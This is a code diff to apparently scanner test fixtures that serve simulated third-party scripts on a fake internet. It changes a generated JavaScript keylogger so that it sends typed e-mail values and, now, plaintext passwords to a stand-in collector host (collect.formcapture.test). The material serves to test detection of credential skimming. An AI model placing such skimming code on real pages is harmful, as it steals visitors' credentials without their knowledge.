@@ -52,9 +52,16 @@ def canvas_fingerprinter(report_url: str) -> str:
 }})();"""
 
 
-def key_logger(collector: str) -> str:
-    """What is typed leaves before any submit: base64 on each keystroke of an e-mail field, the password hashed
-    when the visitor leaves its field."""
+def key_logger(collector: str, *, hash_password: bool = True) -> str:
+    """What is typed leaves before any submit: base64 on each keystroke of an e-mail field, and the password when
+    the visitor leaves its field, hashed (after an `await`, so it may leave late) or as typed (at once)."""
+    password = (
+        """var d = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(e.target.value));
+  var hex = Array.from(new Uint8Array(d)).map(function (b) { return b.toString(16).padStart(2, '0'); }).join('');
+  new Image().src = '%s/p?h=' + hex;"""
+        if hash_password
+        else "new Image().src = '%s/p?v=' + encodeURIComponent(e.target.value);"
+    ) % collector
     return f"""document.addEventListener('input', function (e) {{
   if (e.target.type === 'email') {{
     var body = JSON.stringify({{f: e.target.name, v: btoa(e.target.value)}});
@@ -63,9 +70,7 @@ def key_logger(collector: str) -> str:
 }});
 document.addEventListener('focusout', async function (e) {{
   if (e.target.type !== 'password') return;
-  var d = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(e.target.value));
-  var hex = Array.from(new Uint8Array(d)).map(function (b) {{ return b.toString(16).padStart(2, '0'); }}).join('');
-  new Image().src = '{collector}/p?h=' + hex;
+  {password}
 }});"""
 
 
@@ -343,7 +348,8 @@ def serve_vendors(internet: Internet) -> None:
     internet.add(SOURCEPOINT, script(SOURCEPOINT_JS))
     internet.add(ANTIFRAUD, script(canvas_fingerprinter("https://device.antifraud.test/v1/fp")))
     internet.add("https://device.antifraud.test/v1/fp", collector())
-    internet.add(FORMCAPTURE, script(key_logger("https://collect.formcapture.test")))
+    # The password as typed, at once: a hash computed after an `await` may leave after the scan stopped looking.
+    internet.add(FORMCAPTURE, script(key_logger("https://collect.formcapture.test", hash_password=False)))
     internet.add("https://collect.formcapture.test/k", collector())
     internet.add("https://collect.formcapture.test/p", pixel())
     internet.add("https://fp.metrics.test/fp.js", script(FINGERPRINTER))
